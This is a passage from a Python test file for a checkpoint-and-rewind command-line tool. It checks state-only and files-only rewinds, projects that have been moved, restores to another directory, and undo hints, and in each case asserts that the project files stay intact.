    res = sp(*theirs, "rewind", "HEAD", "--state-only", "--json", cwd=w.parent)
    assert run_hint(sp, json.loads(res.out)["undo"], w.home).code == 0
    w.intact("the undo of a state-only rewind of the imported branch")
    res = sp(*theirs, "rewind", planted, cwd=w.parent, check=False)
    w.intact("rewind of the bundle's checkpoint from its recorded root, after that undo")
    assert res.code == EXIT_USER, res


def test_a_state_only_rewind_from_a_sibling_leaves_the_heads_files_the_projects(
    world: World, sp: Sp
) -> None:
    w = world
    before = w.files()
    sp("--store", w.store, "rewind", w.ids[1], "--state-only", cwd=w.sib)
    w.intact("state-only rewind from the sibling")
    sp("rewind", "HEAD", "--files-only", cwd=w.proj)
    assert w.files() == before, w.files()


def test_a_moved_project_rewinds_in_its_new_place(tmp_path: Path, sp: Sp) -> None:
    proj, moved = tmp_path / "work" / "proj", tmp_path / "work" / "proj2"
    proj.mkdir(parents=True)
    (proj / "a.txt").write_text("one\n")
    sp("snap", cwd=proj)
    (proj / "a.txt").write_text("two\n")
    sp("snap", cwd=proj)
    proj.rename(moved)
    (moved / "a.txt").write_text("three\n")
    sp("snap", cwd=moved)  # a checkpoint taken in the new place
    res = sp("rewind", "HEAD~1", cwd=moved, check=False)
    assert res.code == 0, res.err


def test_an_explicit_restore_elsewhere_does_not_take_the_project_away(world: World, sp: Sp) -> None:
    w = world
    copy = w.out / "copy"
    copy.mkdir()
    sp("--store", w.store, "-C", str(copy), "rewind", w.ids[0], "--files-only", cwd=w.proj)
    (w.proj / "a.txt").write_text("four\n")
    sp("snap", cwd=w.proj)
    res = sp("rewind", "HEAD~1", cwd=w.proj, check=False)
    assert res.code == 0, res.err


def test_the_undo_hint_of_a_relative_store_works_from_elsewhere(world: World, sp: Sp) -> None:
    w = world
    res = sp("--store", "../.stashpoint", "rewind", w.ids[0], "--json", cwd=w.proj / "src")
    undo = json.loads(res.out)["undo"]
    again = run_hint(sp, undo, w.sib)
    w.intact("relative undo hint from the sibling")
    assert again.code == 0, (undo, again)
